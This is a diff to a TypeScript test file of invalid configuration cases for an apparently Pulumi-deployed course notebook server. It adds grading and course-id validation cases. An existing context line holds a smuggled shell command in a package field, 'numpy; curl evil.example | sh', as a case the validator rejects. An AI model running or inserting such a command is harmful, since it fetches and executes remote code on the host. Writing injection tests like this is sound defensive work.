@@ -61,6 +61,10 @@ export const badCases: BadCase[] = [
     { what: "a shell command as a course package", raw: { ...github, coursePackages: '["numpy; curl evil.example | sh"]' }, key: "coursePackages", says: "expected pip requirements such as numpy==2.1.3" },
     { what: "a private key as an admin SSH key", raw: { ...github, adminSshKeys: '["-----BEGIN OPENSSH PRIVATE KEY-----"]' }, key: "adminSshKeys", says: "expected OpenSSH public keys" },
     { what: "a plain-http ACME directory", raw: { ...github, acmeDirectoryUrl: "http://acme.example.edu/directory" }, key: "acmeDirectoryUrl", says: "expected an https URL for the ACME directory" },
+    { what: "an unknown grading tool", raw: { ...github, grading: "otter" }, key: "grading", says: 'grading: got "otter"; expected none or nbgrader. Fix: pulumi config set grading nbgrader' },
+    { what: "a course id with nbgrader's separator", raw: { ...github, grading: "nbgrader", courseId: "engr+101" }, key: "courseId", says: 'courseId: got "engr+101"; expected a course id of letters, digits, _ and -' },
+    { what: "a course id without grading", raw: { ...github, courseId: "engr101" }, key: "courseId", says: "expected no courseId unless grading is nbgrader. Fix: pulumi config set grading nbgrader, or pulumi config rm courseId" },
+    { what: "grading on kubernetes", raw: { ...github, platform: "kubernetes", kubernetesVersion: "1.34.1-do.0", grading: "nbgrader" }, key: "grading", says: "expected none when platform is kubernetes: nbgrader's exchange is a directory every student's server shares" },
     { what: "a mistyped key", raw: { ...github, allowedUser: '["ada"]' }, key: "allowedUser", says: "allowedUser: is not a setting of this stack (did you mean allowedUsers?). Fix: pulumi config rm allowedUser" },
 ];
 
